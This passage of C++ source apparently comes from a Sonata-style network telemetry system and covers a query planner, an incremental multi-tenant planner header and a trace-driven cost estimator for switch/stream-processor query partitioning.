          const std::size_t want = pow2_at_least(std::max(
              cfg_.min_register_entries,
              static_cast<std::size_t>(cfg_.register_headroom * static_cast<double>(keys))));
          std::size_t cap = 1;
          while (cap * 2 * static_cast<std::uint64_t>(entry_bits) <=
                 cfg_.switch_config.max_bits_per_register) {
            cap *= 2;
          }
          rs.entries = std::min(want, cap);
          sizing[op_idx] = rs;
          if (rs.entries < want && keys > 0) {
            const std::uint64_t lost =
                estimate_overflow_keys(keys, rs.entries, rs.depth);
            // Every packet of an overflowed key reaches the SP; assume the
            // average packets-per-key of the operator's input.
            const std::uint64_t pkts_in =
                op_idx < cost.n_after.size() ? cost.n_after[op_idx] : 0;
            overflow_extra[op_idx] = keys == 0 ? 0 : lost * (pkts_in / std::max<std::uint64_t>(keys, 1));
          }
        }
        pipeline.sizing = sizing;

        // Cheapest feasible partition (cost = reported tuples + overflow
        // penalty of on-switch stateful ops; partition 0 costs the shared
        // raw mirror once).
        bool placed = false;
        std::uint64_t best_cost = ~std::uint64_t{0};
        std::size_t best_p = 0;
        std::size_t committed = res.size();  // resources index of the winner
        for (const std::size_t p : partition_choices(*node, max_p)) {
          std::uint64_t contribution;
          if (p == 0) {
            contribution = (raw_active_ || inst.raw) ? 0 : window_packets_;
          } else {
            ProgramResources pr = pisa::build_resources(*node, p, sizing, q.id(),
                                                        static_cast<int>(s), level);
            res.push_back(pr);
            const bool fits = pisa::assign_stages(cfg_.switch_config, res).feasible;
            res.pop_back();
            if (!fits) continue;
            contribution = p < cost.n_after.size() ? cost.n_after[p] : 0;
            for (const auto& [op_idx, extra] : overflow_extra) {
              if (op_idx < p) contribution += extra;
            }
          }
          if (contribution < best_cost) {
            best_cost = contribution;
            best_p = p;
            placed = true;
          }
        }
        assert(placed);
        (void)placed;
        (void)committed;
        pipeline.partition = best_p;
        if (best_p == 0) {
          pipeline.est_tuples = 0;  // covered by the shared raw mirror
          inst.raw = true;
        } else {
          pipeline.est_tuples = best_cost;
          inst.n += best_cost;
          res.push_back(pisa::build_resources(*node, best_p, sizing, q.id(),
                                              static_cast<int>(s), level));
        }
        inst.pq.pipelines.push_back(std::move(pipeline));
        prev = level;
      }
    }
    inst.pq.est_tuples = inst.n;
    return inst;
  }

  void dfs(std::size_t qi, const std::vector<std::vector<std::vector<int>>>& candidates,
           const std::vector<std::uint64_t>& suffix_min, std::vector<ProgramResources>& res,
           std::vector<PlannedQuery>& chosen, std::uint64_t n, bool raw) {
    if (nodes_ > cfg_.search_node_cap && !best_.empty()) return;
    ++nodes_;
    const std::uint64_t objective_so_far = n + (raw ? window_packets_ : 0);
    if (objective_so_far + suffix_min[qi] >= best_objective_) return;
    if (qi == queries_.size()) {
      best_objective_ = objective_so_far;
      best_ = chosen;
      best_resources_ = res;
      best_raw_ = raw;
      return;
    }
    for (const auto& chain : candidates[qi]) {
      const std::size_t res_mark = res.size();
      Installed inst = install_chain(qi, chain, res, raw);
      chosen.push_back(std::move(inst.pq));
      dfs(qi + 1, candidates, suffix_min, res, chosen, n + inst.n, raw || inst.raw);
      chosen.pop_back();
      res.resize(res_mark);
      if (nodes_ > cfg_.search_node_cap && !best_.empty()) return;
    }
  }

  Plan assemble() {
    Plan plan;
    plan.switch_config = cfg_.switch_config;
    plan.mode = cfg_.mode;
    plan.window = cfg_.window;
    plan.queries = std::move(best_);
    plan.resources = std::move(best_resources_);
    plan.raw_mirror = best_raw_;
    plan.est_window_packets = window_packets_;
    plan.est_total_tuples = best_objective_;
    plan.layout = pisa::assign_stages(cfg_.switch_config, plan.resources);

    // Executable per-level queries. Coarse levels get the winner query
    // (stateful sub-queries only, no post-join operators); the finest level
    // gets the full tree. Both substitute the chosen pipelines' augmented
    // nodes so SP execution matches the switch programs exactly.
    for (std::size_t qi = 0; qi < plan.queries.size(); ++qi) {
      auto& pq = plan.queries[qi];
      const auto base_sources = pq.base->sources();
      for (const int level : pq.chain) {
        const bool finest = level == pq.chain.back();
        std::vector<std::shared_ptr<StreamNode>> per_source(base_sources.size());
        for (const auto& p : pq.pipelines) {
          if (p.level == level) {
            per_source.at(static_cast<std::size_t>(p.source_index)) = p.node;
          }
        }
        std::vector<int> remap(base_sources.size(), -1);
        if (finest) {
          int counter = 0;
          std::function<query::StreamNodePtr(const StreamNode&)> clone =
              [&](const StreamNode& node) -> query::StreamNodePtr {
            if (node.kind == StreamNode::Kind::kSource) {
              return per_source.at(static_cast<std::size_t>(counter++));
            }
            auto out = std::make_shared<StreamNode>();
            out->kind = StreamNode::Kind::kJoin;
            out->join_keys = node.join_keys;
            out->left = clone(*node.left);
            out->right = clone(*node.right);
            out->ops = node.ops;
            return out;
          };
          Query exec(pq.base->name() + "@L" + std::to_string(level), pq.base->id(),
                     pq.base->window(), clone(*pq.base->root()));
          const std::string err = exec.validate();
          assert(err.empty());
          (void)err;
          pq.exec_queries.emplace(level, std::move(exec));
          for (std::size_t s = 0; s < remap.size(); ++s) remap[s] = static_cast<int>(s);
        } else {
          // Winner query: per_source is null exactly for raw sources.
          pq.exec_queries.emplace(level, make_winner_query(*pq.base, level, per_source));
          int next = 0;
          for (std::size_t s = 0; s < remap.size(); ++s) {
            remap[s] = per_source[s] ? next++ : -1;
          }
        }
        pq.source_remap.emplace(level, std::move(remap));
      }
    }
    return plan;
  }

  const PlannerConfig& cfg_;
  const std::vector<Query>& queries_;
  const std::vector<TupleWindow>& windows_;
  EstimatorPool* pool_ = nullptr;
  std::deque<CostEstimator> owned_;
  std::uint64_t window_packets_ = 0;

  std::map<std::tuple<std::size_t, int, int, int>, std::shared_ptr<StreamNode>> node_cache_;
  std::map<std::tuple<std::size_t, int, int, int>, std::size_t> max_partition_cache_;
  std::map<std::tuple<std::uint64_t, std::size_t, int>, std::uint64_t> overflow_cache_;
  bool raw_active_ = false;
  bool force_all_sp_ = false;

  std::uint64_t best_objective_ = ~std::uint64_t{0};
  std::vector<PlannedQuery> best_;
  std::vector<ProgramResources> best_resources_;
  bool best_raw_ = false;
  std::uint64_t nodes_ = 0;
};

}  // namespace

std::string Plan::summary() const {
  std::string out = "plan[" + std::string(to_string(mode)) + "] est_tuples/window=" +
                    std::to_string(est_total_tuples) +
                    (raw_mirror ? " (+raw mirror)" : "") + "\n";
  for (const auto& pq : queries) {
    out += "  " + pq.base->name() + ": chain=[";
    for (std::size_t i = 0; i < pq.chain.size(); ++i) {
      if (i) out += ",";
      out += std::to_string(pq.chain[i]);
    }
    out += "] est=" + std::to_string(pq.est_tuples) + "\n";
    for (const auto& p : pq.pipelines) {
      out += "    s" + std::to_string(p.source_index) + " L" +
             (p.prev_level == kNoPrevLevel ? std::string("*") : std::to_string(p.prev_level)) +
             "->" + std::to_string(p.level) + " partition=" + std::to_string(p.partition) + "/" +
             std::to_string(p.node->ops.size()) + " est=" + std::to_string(p.est_tuples) + "\n";
    }
  }
  return out;
}

Plan Planner::plan(const std::vector<Query>& queries, std::span<const net::Packet> training) {
  const auto windows = materialize_windows(training, cfg_.window);
  return plan_windows(queries, windows);
}

EstimatorPool::EstimatorPool(const std::vector<Query>& queries,
                             const std::vector<TupleWindow>& windows,
                             std::vector<int> ip_levels, std::vector<int> dns_levels,
                             double relax_margin) {
  for (const auto& q : queries) {
    estimators_.emplace_back(q, windows, ip_levels, dns_levels, relax_margin);
  }
}

Plan Planner::plan_windows(const std::vector<Query>& queries,
                           const std::vector<TupleWindow>& windows, EstimatorPool* pool) {
  SONATA_INFO("planner", "planning %zu queries over %zu training windows (mode=%s)",
              queries.size(), windows.size(), std::string(to_string(cfg_.mode)).c_str());
  PlanBuilder builder(cfg_, queries, windows, pool);
  Plan plan = builder.run();
  SONATA_INFO("planner", "%s", plan.summary().c_str());
  return plan;
}

}  // namespace sonata::planner
