// The query planner: jointly chooses refinement chains and partition points
// for a set of queries to minimize packet tuples at the stream processor,
// subject to the switch resource model (paper §3.3 + §4.2).
//
// The paper solves an ILP with Gurobi (time-capped at 20 minutes, accepting
// the best found solution). We solve the same optimization with exact
// branch-and-bound over per-query refinement chains, with a greedy
// max-partition-with-backoff install per pipeline and exact stage layout
// (C1-C5) as the feasibility oracle. The admissible bound is the sum of
// each remaining query's contention-free minimum. A node cap bounds the
// search like the paper's time cap.
//
// The Table 4 baselines are planner modes — extra constraints on the same
// optimization — exactly how the paper emulates the systems it compares to.
#pragma once

#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "pisa/config.h"
#include "pisa/layout.h"
#include "pisa/program.h"
#include "planner/estimator.h"
#include "planner/refine.h"
#include "query/query.h"

namespace sonata::planner {

enum class PlanMode : std::uint8_t {
  kSonata,    // full joint optimization
  kAllSP,     // mirror everything to the stream processor (Gigascope/OpenSOC/NetQRE)
  kFilterDP,  // only leading filters on the switch (EverFlow)
  kMaxDP,     // maximal partition, no refinement (UnivMon/OpenSketch)
  kFixRef,    // fixed full refinement chain (DREAM)
};

[[nodiscard]] std::string_view to_string(PlanMode mode) noexcept;

struct PlannerConfig {
  pisa::SwitchConfig switch_config;
  PlanMode mode = PlanMode::kSonata;
  util::Nanos window = util::seconds(3);
  // Candidate refinement levels (finest is always appended).
  std::vector<int> ip_levels = {8, 16, 24};
  std::vector<int> dns_levels = {1, 2};
  int max_delay_windows = 8;      // D_q: max refinement chain length
  int register_depth = 2;         // d registers per stateful op
  double register_headroom = 3.0; // n = headroom * median training keys
  double relax_margin = 0.5;      // scale on relaxed refinement thresholds
  std::size_t min_register_entries = 64;
  std::uint64_t search_node_cap = 100000;  // B&B budget (the paper's 20-min cap)
};

// One (query, source, refinement transition) pipeline instance.
struct PlannedPipeline {
  query::QueryId qid = 0;
  int source_index = 0;
  int level = kFinestIpLevel;
  int prev_level = kNoPrevLevel;
  std::shared_ptr<query::StreamNode> node;  // augmented chain, validated
  std::size_t partition = 0;                // ops on the switch
  std::map<std::size_t, pisa::RegisterSizing> sizing;
  std::string filter_table;  // its dynamic filter table ("" at chain heads)
  std::uint64_t est_tuples = 0;
};

struct PlannedQuery {
  const query::Query* base = nullptr;
  bool refined = false;
  std::vector<int> chain;           // levels ascending, finest last
  std::vector<RefinementKey> keys;  // per source (valid when refined)
  std::vector<PlannedPipeline> pipelines;  // sources x chain levels
  // Executable query per level. Coarse levels hold the *winner query*
  // (stateful sub-queries only — raw sources and post-join operators run
  // at the finest level only, per the paper's §4.2 / Figure 9 semantics);
  // the finest level holds the full query. Source nodes are the pipelines'
  // augmented nodes, so the runtime executes the stream-processor part of
  // exactly what the switch was programmed with.
  std::map<int, query::Query> exec_queries;
  // Per level: original source index -> source position inside
  // exec_queries.at(level) (-1 when the source does not execute at that
  // level).
  std::map<int, std::vector<int>> source_remap;
  std::uint64_t est_tuples = 0;
};

struct Plan {
  pisa::SwitchConfig switch_config;
  PlanMode mode = PlanMode::kSonata;
  util::Nanos window = util::seconds(3);
  std::vector<PlannedQuery> queries;
  std::vector<pisa::ProgramResources> resources;  // flattened, install order
  pisa::Layout layout;
  bool raw_mirror = false;          // some pipeline keeps partition 0
  std::uint64_t est_window_packets = 0;
  std::uint64_t est_total_tuples = 0;  // objective value (per window)
  // Control-plane version: bumped by every admission/withdrawal swap (the
  // plan is a versioned object swapped at window barriers; see DESIGN.md
  // "Query control plane"). 0 = a statically built plan.
  std::uint64_t version = 0;

  [[nodiscard]] std::string summary() const;
};

// Shared, lazily-filled cost estimators: plans for different modes / switch
// configurations over the same training data reuse the (expensive)
// trace-driven cost model. Levels must match the PlannerConfig the pool is
// used with; queries are matched by position.
class EstimatorPool {
 public:
  EstimatorPool(const std::vector<query::Query>& queries,
                const std::vector<TupleWindow>& windows, std::vector<int> ip_levels,
                std::vector<int> dns_levels, double relax_margin = 0.5);

  [[nodiscard]] CostEstimator& at(std::size_t i) { return estimators_.at(i); }
  [[nodiscard]] std::size_t size() const noexcept { return estimators_.size(); }

 private:
  std::deque<CostEstimator> estimators_;
};

class Planner {
 public:
  explicit Planner(PlannerConfig cfg) : cfg_(std::move(cfg)) {}

  // Plan for `queries` using `training` packets as historical data. The
  // queries must outlive the returned plan.
  [[nodiscard]] Plan plan(const std::vector<query::Query>& queries,
                          std::span<const net::Packet> training);

  // Variant over pre-materialized training windows (reused across plans).
  // `pool` (optional) supplies shared estimators; it must have been built
  // from a prefix-compatible query list (same order) and the same levels.
  [[nodiscard]] Plan plan_windows(const std::vector<query::Query>& queries,
                                  const std::vector<TupleWindow>& windows,
                                  EstimatorPool* pool = nullptr);

  [[nodiscard]] const PlannerConfig& config() const noexcept { return cfg_; }

 private:
  PlannerConfig cfg_;
};

// Materialize training packets into per-window tuple sets (shared by
// planner and benchmarks).
[[nodiscard]] std::vector<TupleWindow> materialize_windows(std::span<const net::Packet> packets,
                                                           util::Nanos window);

// Median packets per training window: the raw-mirror charge and the
// objective's normalization constant, shared by every planning entry point.
[[nodiscard]] std::uint64_t median_window_packets(const std::vector<TupleWindow>& windows);

// Joint branch-and-bound over caller-supplied install state (install.h).
// `installers[i]` must wrap `queries[i]`; both spans must outlive the call.
// This is the seam the incremental planner's full re-solve goes through, so
// a cached-estimator re-solve is bitwise identical to a cold plan_windows()
// over the same query order.
class ChainInstaller;
[[nodiscard]] Plan plan_joint(const PlannerConfig& cfg,
                              std::span<const query::Query* const> queries,
                              std::span<ChainInstaller* const> installers,
                              std::uint64_t window_packets);

}  // namespace sonata::planner
