// Incremental re-planning for the dynamic query control plane.
//
// The joint planner (planner.cc) solves the whole query set from scratch;
// on a production control plane queries arrive and leave continuously, and
// estimator construction — replaying every training window per query —
// dominates that cost. The IncrementalPlanner keeps the B&B's search state
// alive across mutations: per-query ChainInstallers (estimators, refined
// node caches, overflow models), chosen placements, and the shared stage
// layout. Admission places only the new query (greedy over the existing
// layout); withdrawal reclaims only its resources.
//
// Cost optimality is preserved by certification, not hope: a mutation's
// greedy result is accepted only when the total objective equals the
// branch-and-bound's own admissible lower bound (the sum of contention-free
// per-query minima) or hits the all-raw fallback cap; otherwise the planner
// falls back to a joint re-solve through plan_joint() with the *cached*
// installers — the expensive estimators are never rebuilt. Either way the
// resulting plan cost equals a from-scratch plan over the same queries in
// admission order (the differential property admission_test.cc fuzzes).
//
// Tenant isolation: each tenant gets a switch budget (match-action tables,
// register bits). A finite budget forbids the partition-0 raw-mirror
// fallback — mirroring is free on the switch, so a budget could otherwise
// never reject — which makes admission control real: a submission that
// cannot be placed within the tenant's remaining budget is rejected with a
// structured diagnostic naming the binding constraint and the smallest
// budget that would admit it. Fairness is deterministic: submissions are
// processed strictly in arrival order and existing placements are never
// evicted by later ones.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "planner/install.h"
#include "planner/planner.h"
#include "util/expected.h"

namespace sonata::planner {

inline constexpr std::uint64_t kUnlimited = ~std::uint64_t{0};

struct TenantBudget {
  std::uint64_t stage_tables = kUnlimited;   // match-action tables across stages
  std::uint64_t register_bits = kUnlimited;  // register memory across those tables

  [[nodiscard]] bool limited() const noexcept {
    return stage_tables != kUnlimited || register_bits != kUnlimited;
  }
};

struct TenantUsage {
  std::uint64_t stage_tables = 0;
  std::uint64_t register_bits = 0;
  std::size_t queries = 0;
};

// Structured admission/withdrawal failure: machine-checkable code, the
// binding constraint with its numbers, and (for budget rejections) the
// smallest budget that would have admitted the submission.
struct AdmissionDiagnostic {
  enum class Code : std::uint8_t {
    kValidation,        // query failed validation
    kDuplicateQueryId,  // an active query already uses this id
    kUnknownTenant,     // tenant was never defined
    kUnknownHandle,     // withdraw of a handle that is not active
    kStageBudget,       // tenant match-action table budget binds
    kRegisterBudget,    // tenant register-bit budget binds
    kLayout,            // switch stage layout cannot host the query at all
    kNoControlPlane,    // engine was built without a control plane
    kScript,            // malformed admit-script / flag input (tools)
  };
  Code code = Code::kValidation;
  std::string message;     // human-readable, one line
  std::string tenant;      // tenant involved ("" = the unlimited default)
  std::string constraint;  // binding dimension ("stage_tables", "register_bits", "layout", ...)
  std::uint64_t budget = 0;    // the binding constraint's limit
  std::uint64_t in_use = 0;    // tenant usage before this submission
  std::uint64_t required = 0;  // what the smallest placement needs
  std::optional<TenantBudget> smallest_admitting;  // set for budget rejections

  [[nodiscard]] std::string to_string() const;
};

[[nodiscard]] std::string_view to_string(AdmissionDiagnostic::Code code) noexcept;

// Engine-scoped admission handle (also the control-plane QueryHandle id).
using AdmitId = std::uint64_t;

class IncrementalPlanner {
 public:
  // `training` windows feed every estimator built by this planner; the
  // median window size is the raw-mirror charge, exactly as in plan_windows.
  IncrementalPlanner(PlannerConfig cfg, std::vector<TupleWindow> training);

  // Tenants must be defined before they admit queries. Redefining an
  // existing tenant replaces its budget (existing placements are kept).
  void define_tenant(std::string_view name, TenantBudget budget);
  [[nodiscard]] bool tenant_defined(std::string_view name) const;
  [[nodiscard]] TenantUsage tenant_usage(std::string_view name) const;
  [[nodiscard]] std::vector<std::string> tenant_names() const;

  // Place `q` for `tenant` ("" = the unlimited default tenant). `q` must be
  // validated and outlive the placement (until withdraw or destruction).
  util::Expected<AdmitId, AdmissionDiagnostic> admit(const query::Query& q,
                                                     std::string_view tenant = {});
  util::Expected<util::Ok, AdmissionDiagnostic> withdraw(AdmitId id);

  // Assemble the active set into an executable plan (stage layout, exec
  // queries); bumps the plan version.
  [[nodiscard]] Plan snapshot_plan();

  [[nodiscard]] std::size_t active_queries() const noexcept { return entries_.size(); }
  [[nodiscard]] const query::Query* query(AdmitId id) const noexcept;
  [[nodiscard]] std::string_view tenant_of(AdmitId id) const noexcept;
  [[nodiscard]] std::uint64_t objective() const noexcept { return objective_; }
  // Solver accounting: ops certified optimal without a joint re-solve vs
  // ops that fell back to plan_joint (still over cached estimators).
  [[nodiscard]] std::uint64_t incremental_solves() const noexcept { return inc_solves_; }
  [[nodiscard]] std::uint64_t full_solves() const noexcept { return full_solves_; }
  [[nodiscard]] const PlannerConfig& config() const noexcept { return cfg_; }
  [[nodiscard]] const std::vector<TupleWindow>& training_windows() const noexcept {
    return windows_;
  }

 private:
  struct Entry {
    AdmitId id = 0;
    const query::Query* q = nullptr;
    std::string tenant;
    std::unique_ptr<ChainInstaller> installer;
    PlannedQuery pq;  // chosen placement (exec queries rebuilt per snapshot)
    std::uint64_t n = 0;   // SP contribution excluding the shared raw charge
    bool raw = false;      // some pipeline rides the raw mirror
    Footprint footprint;   // switch resources of this placement
    std::uint64_t min_cost = 0;  // contention-free lower bound over its chains
  };

  [[nodiscard]] bool raw_active() const noexcept;
  [[nodiscard]] bool budget_constrained() const;  // any active limited-tenant entry
  void rebuild_resources();
  // Re-derive objective / certification after placements changed; falls
  // back to a joint re-solve when the greedy state cannot be certified.
  void recompute(bool allow_full_solve);
  void full_resolve();
  static Footprint footprint_of(const PlannedQuery& pq);

  PlannerConfig cfg_;
  std::vector<TupleWindow> windows_;
  std::uint64_t window_packets_ = 0;
  std::map<std::string, TenantBudget, std::less<>> tenants_;
  std::vector<Entry> entries_;  // admission order (fairness + solve order)
  std::vector<pisa::ProgramResources> res_;  // entries' resources, entry order
  std::uint64_t objective_ = 0;
  // From-scratch planning would hit the all-raw fallback (sum of per-query
  // minima >= one window of packets): snapshots emit the All-SP layout and
  // the objective is capped at window_packets, while the greedy placements
  // are kept as shadow state so later mutations stay incremental.
  bool all_sp_cap_ = false;
  std::uint64_t next_id_ = 1;
  std::uint64_t version_ = 0;
  std::uint64_t inc_solves_ = 0;
  std::uint64_t full_solves_ = 0;
};

}  // namespace sonata::planner
