#include "planner/estimator.h"

#include <algorithm>
#include <cassert>

#include "pisa/compile.h"
#include "pisa/register.h"
#include "stream/executor.h"
#include "util/flat_table.h"
#include "util/stats.h"
#include "util/ip.h"
#include "net/dns.h"

namespace sonata::planner {

using query::OpKind;
using query::Operator;
using query::StreamNode;
using query::Tuple;

InstrumentedResult run_instrumented(const StreamNode& node, std::span<const Tuple> tuples,
                                    const std::vector<Tuple>* front_filter_entries) {
  assert(node.kind == StreamNode::Kind::kSource);
  InstrumentedResult res;
  res.n_after.assign(node.ops.size() + 1, 0);
  res.n_after[0] = tuples.size();

  // Bind evaluators per op. Sampling aggregation runs on the same flat
  // keyed-state tables as the live stream executor (util/flat_table.h).
  struct Bound {
    query::Expr::Evaluator pred;
    std::vector<query::Expr::Evaluator> match;
    std::vector<query::Expr::Evaluator> projections;
    std::vector<std::size_t> key_idx;
    std::size_t value_idx = 0;
    query::ReduceFn fn = query::ReduceFn::kSum;
    util::FlatSet seen;
    util::FlatMap<std::uint64_t> agg;
  };
  std::vector<Bound> bound(node.ops.size());
  for (std::size_t i = 0; i < node.ops.size(); ++i) {
    const Operator& op = node.ops[i];
    const query::Schema& in = node.schemas[i];
    switch (op.kind) {
      case OpKind::kFilter:
        bound[i].pred = op.predicate->bind(in);
        break;
      case OpKind::kFilterIn:
        for (const auto& m : op.match_exprs) bound[i].match.push_back(m->bind(in));
        break;
      case OpKind::kMap:
        for (const auto& p : op.projections) bound[i].projections.push_back(p.expr->bind(in));
        break;
      case OpKind::kDistinct:
        break;
      case OpKind::kReduce: {
        for (const auto& k : op.keys) bound[i].key_idx.push_back(*in.index_of(k));
        bound[i].value_idx = *in.index_of(op.value_col);
        bound[i].fn = op.fn;
        break;
      }
    }
  }

  util::FlatSet entries;
  if (front_filter_entries) {
    entries.reserve(front_filter_entries->size());
    for (const auto& e : *front_filter_entries) entries.insert(e);
  }

  // Per-packet pass. A reduce consumes the tuple (switch semantics: the
  // aggregate lives in registers until the end of the window).
  const std::size_t stop = node.ops.size();
  for (const Tuple& source : tuples) {
    Tuple t = source;
    for (std::size_t i = 0; i < stop; ++i) {
      const Operator& op = node.ops[i];
      Bound& b = bound[i];
      bool consumed = false;
      switch (op.kind) {
        case OpKind::kFilter: {
          if (b.pred(t).as_uint() == 0) consumed = true;
          break;
        }
        case OpKind::kFilterIn: {
          Tuple key;
          key.values.reserve(b.match.size());
          for (const auto& m : b.match) key.values.push_back(m(t));
          if (!entries.contains(key, key.hash())) consumed = true;
          break;
        }
        case OpKind::kMap: {
          Tuple next;
          next.values.reserve(b.projections.size());
          for (const auto& p : b.projections) next.values.push_back(p(t));
          t = std::move(next);
          break;
        }
        case OpKind::kDistinct: {
          if (!b.seen.insert(t, t.hash())) consumed = true;
          break;
        }
        case OpKind::kReduce: {
          Tuple key = query::project(t, b.key_idx);
          const std::uint64_t hash = key.hash();
          const std::uint64_t delta = t.at(b.value_idx).as_uint();
          auto [slot, inserted] = b.agg.try_emplace(std::move(key), hash, delta);
          if (!inserted) *slot = pisa::apply_reduce(b.fn, *slot, delta);
          consumed = true;  // counted at window end
          break;
        }
      }
      if (consumed) break;
      res.n_after[i + 1] += 1;
    }
  }

  // Window-end accounting for stateful tails.
  for (std::size_t i = 0; i < node.ops.size(); ++i) {
    const Operator& op = node.ops[i];
    if (op.kind == OpKind::kDistinct) {
      res.stateful_keys[i] = bound[i].seen.size();
    } else if (op.kind == OpKind::kReduce) {
      res.stateful_keys[i] = bound[i].agg.size();
      // Partition ending right after the reduce: one report per key.
      res.n_after[i + 1] = bound[i].agg.size();
      // Partition including the folded threshold filter: one report per
      // key whose final aggregate passes.
      if (const auto folded = pisa::foldable_threshold(node, i + 1)) {
        std::uint64_t passing = 0;
        for (const auto& e : bound[i].agg.entries()) {
          const bool ok =
              folded->strict ? e.value > folded->threshold : e.value >= folded->threshold;
          passing += ok ? 1 : 0;
        }
        res.n_after[i + 2] = passing;
      }
      break;  // nothing past the (first) reduce runs on the switch
    }
  }
  return res;
}

namespace {

// Append `finest` if missing; sort ascending; drop anything beyond finest.
std::vector<int> normalize_levels(std::vector<int> levels, int finest) {
  levels.erase(std::remove_if(levels.begin(), levels.end(),
                              [&](int l) { return l <= 0 || l >= finest; }),
               levels.end());
  std::sort(levels.begin(), levels.end());
  levels.erase(std::unique(levels.begin(), levels.end()), levels.end());
  levels.push_back(finest);
  return levels;
}

}  // namespace

CostEstimator::CostEstimator(const query::Query& q, const std::vector<TupleWindow>& windows,
                             std::vector<int> ip_levels, std::vector<int> dns_levels,
                             double relax_margin)
    : query_(&q), windows_(&windows), relax_margin_(relax_margin) {
  const auto sources = q.sources();
  refinable_ = q.refinable() && !sources.empty();
  for (const auto* src : sources) {
    std::optional<RefinementKey> key;
    if (const auto found = find_refinement_key(*src)) {
      key = found;
    } else if (q.root()->kind == query::StreamNode::Kind::kJoin) {
      // Raw-packet sources of a join refine on the join key.
      for (const auto& jk : q.root()->join_keys) {
        if ((key = trace_refinement_key(*src, jk))) break;
      }
    }
    if (!key) {
      refinable_ = false;
      break;
    }
    keys_.push_back(std::move(*key));
  }
  if (refinable_) {
    // All sources must share one key kind (one chain per query, §4.2).
    for (const auto& k : keys_) refinable_ = refinable_ && k.is_dns == keys_.front().is_dns;
  }
  if (!refinable_) {
    keys_.clear();
    keys_.resize(sources.size());  // placeholders; never used
    levels_ = {kFinestIpLevel};
    relaxed_.resize(sources.size());
    return;
  }
  const bool dns = keys_.front().is_dns;
  levels_ = normalize_levels(dns ? std::move(dns_levels) : std::move(ip_levels),
                             dns ? kFinestDnsLevel : kFinestIpLevel);
  relaxed_.resize(sources.size());
  compute_relaxed_thresholds();
}

std::vector<std::vector<query::Value>> CostEstimator::satisfying_keys() {
  if (satisfying_cache_) return *satisfying_cache_;
  std::vector<std::vector<query::Value>> satisfying(windows_->size());
  const auto key_col = keys_.empty() ? std::string{} : keys_.front().key_column;
  const auto out_idx = query_->root()->output_schema().index_of(key_col);
  if (out_idx) {
    for (std::size_t w = 0; w < windows_->size(); ++w) {
      stream::QueryExecutor exec(*query_);
      for (const Tuple& t : (*windows_)[w]) exec.ingest_source_tuple(t);
      for (const Tuple& out : exec.end_window()) satisfying[w].push_back(out.at(*out_idx));
    }
  }
  satisfying_cache_ = satisfying;
  return satisfying;
}

void CostEstimator::compute_relaxed_thresholds() {
  const auto sources = query_->sources();

  // Which sources have a trailing threshold filter eligible for relaxation?
  struct TailInfo {
    std::size_t reduce_op = 0;
    bool has_threshold = false;
  };
  std::vector<TailInfo> tails(sources.size());
  for (std::size_t s = 0; s < sources.size(); ++s) {
    const auto& ops = sources[s]->ops;
    for (std::size_t i = ops.size(); i-- > 0;) {
      if (ops[i].kind == OpKind::kReduce) {
        tails[s].reduce_op = i;
        tails[s].has_threshold = pisa::foldable_threshold(*sources[s], i + 1).has_value();
        break;
      }
    }
  }

  // Satisfying keys per window: run the original query end-to-end.
  const auto satisfying = satisfying_keys();

  // Helper: run a chain truncated at its last reduce (trailing filter
  // removed) so end_window() yields the raw (keys..., aggregate) rows.
  const auto truncated_at_reduce = [&](std::shared_ptr<StreamNode> node) {
    std::size_t reduce_idx = 0;
    for (std::size_t i = node->ops.size(); i-- > 0;) {
      if (node->ops[i].kind == OpKind::kReduce) {
        reduce_idx = i;
        break;
      }
    }
    node->ops.resize(reduce_idx + 1);
    const std::string err = query::validate_stream_node(*node);
    assert(err.empty());
    (void)err;
    return node;
  };

  // Coarsen the hierarchical component of a full reduce-key tuple.
  const auto coarsen_key = [](const RefinementKey& key, Tuple full_key, std::size_t kpos,
                              int level) {
    query::Value& v = full_key.values.at(kpos);
    if (key.is_dns) {
      v = query::Value{net::dns_name_prefix(v.as_string(), static_cast<std::size_t>(level))};
    } else {
      v = query::Value{static_cast<std::uint64_t>(
          util::ipv4_prefix(static_cast<std::uint32_t>(v.as_uint()), level))};
    }
    return full_key;
  };

  // For each source with a threshold and each coarse level: the minimum
  // coarse aggregate over the coarsened versions of the *fine rows that
  // both passed the source's own threshold and belong to a key satisfying
  // the full query*. Matching the full reduce-key tuple (not just the
  // hierarchical component) matters for multi-key reduces like Zorro's
  // (dIP, size-bucket): relaxing to the victim's rarest bucket would let
  // every prefix through.
  for (std::size_t s = 0; s < sources.size(); ++s) {
    if (!tails[s].has_threshold) continue;
    const RefinementKey& key = keys_[s];

    // Fine rows passing the original sub-query (with its threshold) whose
    // key column satisfies the full query — computed once per window.
    std::vector<std::vector<Tuple>> fine_rows(windows_->size());
    {
      const query::Schema& fine_schema = sources[s]->schemas[tails[s].reduce_op + 1];
      const auto fine_kidx = fine_schema.index_of(key.key_column);
      if (!fine_kidx) continue;
      for (std::size_t w = 0; w < windows_->size(); ++w) {
        if (satisfying[w].empty()) continue;
        util::FlatSet sat;
        sat.reserve(satisfying[w].size());
        for (const auto& v : satisfying[w]) sat.insert(Tuple{{v}});
        // Run the original chain up to and including the trailing filter.
        stream::ChainExecutor chain(*sources[s]);
        for (const Tuple& t : (*windows_)[w]) chain.ingest(t, 0);
        for (Tuple& out : chain.end_window()) {
          Tuple kt{{out.at(*fine_kidx)}};
          if (!sat.contains(kt)) continue;
          // Keep the full reduce key (all columns except the aggregate).
          out.values.pop_back();
          fine_rows[w].push_back(std::move(out));
        }
      }
    }

    for (std::size_t li = 0; li + 1 < levels_.size(); ++li) {  // skip finest
      const int level = levels_[li];
      std::optional<std::uint64_t> min_agg;
      for (std::size_t w = 0; w < windows_->size(); ++w) {
        if (fine_rows[w].empty()) continue;
        RefineOptions opts;
        opts.level = level;
        auto refined = truncated_at_reduce(make_refined_node(*sources[s], key, opts));
        const query::Schema& out_schema = refined->output_schema();
        const auto kidx = out_schema.index_of(key.key_column);
        if (!kidx) continue;

        util::FlatSet coarse_satisfying;
        coarse_satisfying.reserve(fine_rows[w].size());
        for (const Tuple& row : fine_rows[w]) {
          coarse_satisfying.insert(coarsen_key(key, row, *kidx, level));
        }

        stream::ChainExecutor chain(*refined);
        for (const Tuple& t : (*windows_)[w]) chain.ingest(t, 0);
        for (const Tuple& out : chain.end_window()) {
          Tuple full_key = out;
          full_key.values.pop_back();  // drop the aggregate
          if (!coarse_satisfying.contains(full_key)) continue;
          const std::uint64_t agg = out.values.back().as_uint();
